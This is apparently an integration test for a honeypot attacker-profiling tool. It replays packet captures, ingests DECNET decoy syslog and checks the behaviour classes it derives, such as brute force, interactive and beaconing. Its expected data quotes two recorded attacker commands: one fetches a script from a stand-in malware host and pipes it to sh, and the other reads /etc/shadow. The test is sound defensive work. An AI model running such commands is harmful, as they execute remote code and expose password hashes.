// The profiler wired into the running system, end to end through the command line: a corpus pcap
// replayed with --db and DECNET service syslog ingested with `deckscope ingest` (from files, and
// over UDP and TCP loopback) leave the attacker_behavior rows the inputs imply, in PGlite and, when
// DATABASE_URL is set, in PostgreSQL. Expected values are worked out here from the input lines
// (counts, times, commands, decoys) and from the documented class rules (classify.ts: ≥ 5 failed
// logins = brute_force, ≥ 2 commands = interactive, a fixed 60 s check-in = beaconing), never read
// back from the profiler.
import { spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { openDb } from '../../src/db/adapter.js';
import { backends, noteServerSkip, tmp } from '../db/helpers.js';
import { BIN, runCli as run } from '../helpers/cli.js';
import { CORPUS } from '../helpers/corpus.js';

noteServerSkip('test/integration/db-profiler.test.ts');

const FIXTURE = fileURLToPath(new URL('../fixtures/syslog/decnet-services.log', import.meta.url));
const PCAPS = ['foxio-ja4/pcap/ssh2.pcapng', 'foxio-ja4/pcap/tls-handshake.pcapng'].map(
  (f) => `${CORPUS}${f}`,
);

const line = (ts: string, decky: string, app: string, msgid: string, sd: string) =>
  `<134>1 ${ts} ${decky} ${app} - ${msgid} [relay@55555 ${sd}]`;
const at = (base: number, s: number) => new Date(base + s * 1000).toISOString().replace('Z', '000+00:00');

/** A designed log: a brute-forcer that then walks to two more decoys, and a 60 s beacon. */
function designedLog(): string {
  const t0 = Date.parse('2026-06-21T08:00:00Z');
  const out: string[] = [];
  for (let i = 0; i < 12; i++)
    out.push(
      line(
        at(t0, i * 5),
        'decky-a',
        'auth-helper',
        'auth_attempt',
        `username="root" secret_printable="pw${i}" src_ip="192.0.2.200"`,
      ),
    );
  out.push(line(at(t0, 100), 'decky-b', 'ssh', 'connection', 'src_ip="192.0.2.200" src_port="50001"'));
  out.push(line(at(t0, 200), 'decky-c', 'ftp', 'connection', 'src_ip="192.0.2.200" src_port="50002"'));
  for (let i = 0; i < 20; i++)
    out.push(
      line(at(t0, i * 60), 'decky-web', 'http', 'connection', `src_ip="198.18.0.50" src_port="${40000 + i}"`),
    );
  return `${out.join('\n')}\n`;
}

interface Expected {
  ip: string;
  first: string;
  last: string;
  events: number;
  auth: number;
  failures: number;
  commands: number;
  cls?: string;
  traversal: string | null;
  commandTexts?: string[];
}

/** What the fixture and the designed log imply (worked out by hand from the lines; see the test
 *  header): the FTP user/auth/download lines name no address and count for nobody; sshd's own
 *  Failed/Accepted lines are outcomes, not attempts; the sniffer line is a sensor event. */
const FIXTURE_EXPECTED: Expected[] = [
  {
    ip: '203.0.113.7',
    first: '2026-06-20 10:00:00.123456',
    last: '2026-06-20 10:00:04',
    events: 2,
    auth: 0,
    failures: 0,
    commands: 0,
    cls: 'insufficient_data',
    traversal: null,
  },
  {
    ip: '198.51.100.23',
    first: '2026-06-20 10:01:00.0001',
    last: '2026-06-20 10:01:07',
    events: 6,
    auth: 1,
    failures: 1,
    commands: 2,
    cls: 'interactive',
    traversal: null,
    commandTexts: ['wget -qO- http://malware.example/x.sh | sh', 'cat /etc/shadow'],
  },
  {
    ip: '192.0.2.9',
    first: '2026-06-20 10:02:00',
    last: '2026-06-20 10:02:00.2',
    events: 4,
    auth: 1,
    failures: 1,
    commands: 2,
    cls: 'interactive',
    traversal: null,
    commandTexts: ['AUTH', 'CONFIG'],
  },
  {
    ip: '192.0.2.10',
    first: '2026-06-20 10:03:00',
    last: '2026-06-20 10:03:00',
    events: 1,
    auth: 1,
    failures: 1,
    commands: 0,
    cls: 'insufficient_data',
    traversal: null,
  },
  {
    ip: '192.0.2.44',
    first: '2026-06-20 10:04:00',
    last: '2026-06-20 10:04:00',
    events: 1,
    auth: 1,
    failures: 1,
    commands: 0,
    cls: 'insufficient_data',
    traversal: null,
  },
  // two requests to decky-web, then the sniffer's SYN towards 10.0.0.5: two decoys in order
  {
    ip: '192.0.2.80',
    first: '2026-06-20 10:05:00',
    last: '2026-06-20 10:06:00',
    events: 3,
    auth: 0,
    failures: 0,
    commands: 0,
    cls: 'insufficient_data',
    traversal: 'decky-web -> 10.0.0.5',
  },
  {
    ip: '2001:db8::80',
    first: '2026-06-20 10:05:01',
    last: '2026-06-20 10:05:01',
    events: 1,
    auth: 1,
    failures: 1,
    commands: 0,
    cls: 'insufficient_data',
    traversal: null,
  },
];
const DESIGNED_EXPECTED: Expected[] = [
  {
    ip: '192.0.2.200',
    first: '2026-06-21 08:00:00',
    last: '2026-06-21 08:03:20',
    events: 14,
    auth: 12,
    failures: 12,
    commands: 0,
    cls: 'brute_force',
    traversal: 'decky-a -> decky-b -> decky-c',
  },
  {
    ip: '198.18.0.50',
    first: '2026-06-21 08:00:00',
    last: '2026-06-21 08:19:00',
    events: 20,
    auth: 0,
    failures: 0,
    commands: 0,
    cls: 'beaconing',
    traversal: null,
  },
];

async function behaviourRows(url: string) {
  const db = await openDb(url);
  try {
    return (
      await db.query<Record<string, unknown>>(
        `SELECT b.ip, (a.first_seen AT TIME ZONE 'UTC')::text AS first, (a.last_seen AT TIME ZONE 'UTC')::text AS last,
                (b.profile_at AT TIME ZONE 'UTC')::text AS profile_at,
                b.profile_events AS events, b.auth_attempts AS auth, b.auth_failures AS failures,
                b.command_count AS commands, b.behavior_class AS cls, a.traversal_path AS traversal,
                a.is_traversal, a.commands AS command_list, b.beacon_interval_s, b.phase_sequence,
                b.profile_sensor, b.os_guess
         FROM attacker_behavior b JOIN attackers a ON a.uuid = b.attacker_uuid ORDER BY b.ip`,
      )
    ).rows;
  } finally {
    await db.close();
  }
}

function expectRow(rows: Record<string, unknown>[], e: Expected): Record<string, unknown> {
  const r = rows.find((x) => x.ip === e.ip);
  expect(r, e.ip).toBeDefined();
  expect(r, e.ip).toMatchObject({
    first: e.first,
    last: e.last,
    profile_at: e.last,
    events: e.events,
    auth: e.auth,
    failures: e.failures,
    commands: e.commands,
    traversal: e.traversal,
    is_traversal: e.traversal !== null,
    ...(e.cls ? { cls: e.cls } : {}),
  });
  if (e.commandTexts)
    expect((r!.command_list as { command: string }[]).map((c) => c.command)).toEqual(e.commandTexts);
  return r!;
}

describe.each(backends())('profiler end to end into $name', (backend) => {
  afterAll(() => backend.cleanup());

  it('a pcap replay with --db and an ingested syslog file give the attacker_behavior rows their events imply', async () => {
    const url = await backend.fresh();
    const dir = tmp('prof');
    const jsonl = join(dir, 'events.jsonl');
    const designed = join(dir, 'designed.log');
    writeFileSync(designed, designedLog());
    const spool = join(dir, 'spool');
    const cap = run([
      '-q',
      ...PCAPS.flatMap((f) => ['-r', f]),
      '--sensor-id',
      's1',
      '--db',
      url,
      '--db-spool',
      spool,
      '-o',
      jsonl,
    ]);
    expect(cap.code, cap.stderr).toBe(0);
    const ing = run([
      'ingest',
      FIXTURE,
      designed,
      '--sensor-id',
      'honeypots',
      '--db',
      url,
      '--db-spool',
      spool,
      '--stats-json',
      '-',
    ]);
    expect(ing.code, ing.stderr).toBe(0);
    const stats = JSON.parse(ing.stderr.split('\n').find((l) => l.startsWith('{'))!);
    // 21 fixture lines (one a sniffer line) + 14 + 20 designed ones; 3 FTP lines name no address.
    expect(stats).toMatchObject({
      messages: 55,
      records: 54,
      stored: 54,
      sensorEvents: 1,
      skipped: { no_attacker: 3 },
    });
    expect(stats.profiler).toMatchObject({ events: 52, evicted: 0, writeErrors: 0 });

    // Sensor side: one row per source address, with its event count and newest packet time.
    const bySrc = new Map<string, { n: number; last: number }>();
    for (const l of readFileSync(jsonl, 'utf8').split('\n').filter(Boolean)) {
      const e = JSON.parse(l) as { ts: string; src_ip?: string };
      if (!e.src_ip) continue;
      const s = bySrc.get(e.src_ip) ?? { n: 0, last: 0 };
      s.n++;
      s.last = Math.max(s.last, Date.parse(e.ts));
      bySrc.set(e.src_ip, s);
    }
    expect(bySrc.size).toBeGreaterThan(0);
    const rows = await behaviourRows(url);
    for (const [ip, s] of bySrc) {
      const r = rows.find((x) => x.ip === ip);
      expect(r, ip).toMatchObject({ events: s.n, profile_sensor: 's1' });
      expect(Date.parse(`${String(r!.profile_at).replace(' ', 'T')}Z`)).toBe(s.last);
    }
    // Honeypot side.
    for (const e of [...FIXTURE_EXPECTED, ...DESIGNED_EXPECTED]) expectRow(rows, e);
    expect(rows.length).toBe(bySrc.size + FIXTURE_EXPECTED.length + DESIGNED_EXPECTED.length);
    const beacon = rows.find((r) => r.ip === '198.18.0.50')!;
    expect(beacon.beacon_interval_s).toBeCloseTo(60, 6);
    const ssh = rows.find((r) => r.ip === '198.51.100.23')!;
    expect((ssh.phase_sequence as { order: string[] }).order).toEqual([
      'credential_access',
      'command_and_control', // wget … | sh
      'collection', // cat /etc/shadow
    ]);

    // Every honeypot record is one event row; ingesting the same files again adds nothing and
    // leaves the snapshots as they were (the same snapshot is not newer than itself).
    const again = run([
      'ingest',
      '-q',
      FIXTURE,
      designed,
      '--sensor-id',
      'honeypots',
      '--db',
      url,
      '--db-spool',
      spool,
    ]);
    expect(again.code, again.stderr).toBe(0);
    const db = await openDb(url);
    try {
      const n = await db.query<{ n: number }>(
        "SELECT count(*) AS n FROM events WHERE event_type LIKE 'honeypot\\_%'",
      );
      expect(n.rows[0]!.n).toBe(54);
    } finally {
      await db.close();
    }
    expect(await behaviourRows(url)).toEqual(rows);
  });

  it('ingest listens on UDP and TCP loopback until SIGTERM, then flushes', async () => {
    const url = await backend.fresh();
    const dir = tmp('prof-listen');
    const p = spawn(
      process.execPath,
      [
        BIN,
        'ingest',
        '--syslog-udp',
        '127.0.0.1:0',
        '--syslog-tcp',
        '127.0.0.1:0',
        '--db',
        url,
        '--db-spool',
        join(dir, 'spool'),
        '--stats-json',
        '-',
      ],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    let stderr = '';
    const listening = new Promise<{ udp: number; tcp: number }>((resolve, reject) => {
      p.stderr.on('data', (d) => {
        stderr += d;
        const m = /listening on udp 127\.0\.0\.1:(\d+), tcp 127\.0\.0\.1:(\d+)/.exec(stderr);
        if (m) resolve({ udp: Number(m[1]), tcp: Number(m[2]) });
      });
      p.on('close', () => reject(new Error(`ingest exited: ${stderr}`)));
    });
    const exited = new Promise<number | null>((resolve) => p.on('close', resolve));
    const ports = await listening;
    const lines = readFileSync(FIXTURE, 'utf8').split('\n').filter(Boolean);
    // UDP: the FTP and SSH lines, one datagram each.
    const udp = createSocket('udp4');
    for (const l of lines.slice(0, 11))
      await new Promise<void>((r) => udp.send(l, ports.udp, '127.0.0.1', () => r()));
    udp.close();
    // TCP: the rest, octet-counted on one connection; newline-framed on another, with a raw LF
    // inside a value (DECNET's W19) that must not split the message.
    const send = (data: string) =>
      new Promise<void>((resolve, reject) => {
        const c = connect(ports.tcp, '127.0.0.1', () => c.end(data));
        c.on('close', () => resolve());
        c.on('error', reject);
      });
    await send(
      lines
        .slice(11, 16)
        .map((l) => `${Buffer.byteLength(l)} ${l}`)
        .join(''),
    );
    await send(
      `${lines.slice(16).join('\n')}\n${line('2026-06-20T10:07:00+00:00', 'decky-ssh', 'bash', 'command', 'src="192.0.2.77" command="echo a\nid"')}\n`,
    );
    await new Promise((r) => setTimeout(r, 500));
    p.kill('SIGTERM');
    expect(await exited, stderr).toBe(0);
    const stats = JSON.parse(stderr.split('\n').find((l) => l.startsWith('{'))!);
    expect(stats).toMatchObject({ messages: 22, records: 21, sensorEvents: 1 });
    expect(stats.listener).toMatchObject({ udpDatagrams: 11, tcpConnections: 2 });
    const rows = await behaviourRows(url);
    for (const e of FIXTURE_EXPECTED) expectRow(rows, e);
    const multi = rows.find((r) => r.ip === '192.0.2.77')!;
    expect(multi).toMatchObject({ commands: 1, events: 1 });
    expect((multi.command_list as { command: string }[])[0]!.command).toBe('echo a\nid');
  });
});
